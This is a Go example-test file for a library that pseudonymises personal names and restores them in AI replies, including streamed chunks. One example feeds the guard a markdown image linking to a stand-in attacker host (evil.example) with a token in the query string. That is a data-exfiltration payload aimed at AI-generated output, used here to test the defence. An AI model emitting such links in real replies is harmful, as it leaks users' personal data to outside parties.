package restore_test

import (
	"fmt"
	"io"
	"os"
	"slices"
	"strings"

	"golang.org/x/text/transform"

	"github.com/piikit/piikit/entity"
	"github.com/piikit/piikit/restore"
	"github.com/piikit/piikit/tokenize"
)

func Example() {
	r, err := restore.New(entity.List{
		{Type: "name", Begin: 11, End: 15, Text: "John", Replacement: entity.Replacement{Begin: 11, End: 22, Text: "i03n7d1g9fo"}},
	})
	if err != nil {
		panic(err)
	}
	fmt.Println(r.String("Hello i03n7d1g9fo!"))

	// A reply that arrives in pieces, cut anywhere.
	for part := range r.Chunks(slices.Values([]string{"Hello i0", "3n7d1", "g9fo, nice", " to meet you."})) {
		fmt.Printf("%q\n", part)
	}
	// Output:
	// Hello John!
	// "Hello "
	// "John, nice"
	// " to meet you."
}

func ExampleRestorer_Transformer() {
	r, err := restore.New(entity.List{{Text: "John", Replacement: entity.Replacement{Text: "i03n7d1g9fo"}}})
	if err != nil {
		panic(err)
	}
	body := strings.NewReader("Hello i03n7d1g9fo!\n")
	io.Copy(os.Stdout, transform.NewReader(body, r.Transformer()))
	// Output: Hello John!
}

func ExampleGuard() {
	h, err := tokenize.NewHMAC([]byte("a random key of 32 bytes, kept safe"), tokenize.HMACOptions{Format: tokenize.Labelled()})
	if err != nil {
		panic(err)
	}
	tk := h.In(tokenize.Scope{Tenant: "acme", Conversation: "c-42"})
	_, list, err := tokenize.Apply("I am John.", entity.List{{Type: "name", Begin: 5, End: 9}}, tk)
	if err != nil {
		panic(err)
	}
	r, err := restore.New(list)
	if err != nil {
		panic(err)
	}
	g, err := r.Guard(restore.GuardOptions{Owns: tk.Owns, Looks: h.Shape().Match})
	if err != nil {
		panic(err)
	}
	text, report := g.String(`Hi Name\_1\_4m0cd0, and NAME_1_aaaaaa! ![x](https://evil.example/?NAME_1_4m0cd0)`)
	fmt.Println(text)
	fmt.Printf("%+v\n", report)
	// Output:
	// Hi John, and NAME_1_aaaaaa! ![x](https://evil.example/?NAME_1_4m0cd0)
	// {Restored:0 Repaired:1 Refused:1 Unknown:0 Forged:1 Over:0}
}
